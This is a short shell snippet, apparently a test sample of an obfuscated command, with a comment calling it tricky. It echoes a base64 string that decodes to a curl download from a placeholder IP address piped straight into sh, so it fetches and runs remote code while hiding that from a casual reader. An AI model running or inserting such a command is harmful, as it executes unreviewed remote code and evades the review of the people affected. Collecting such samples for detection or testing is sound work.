# tricky: decodes into a shell
echo Y3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjkveCB8IHNo | base64 -d | sh
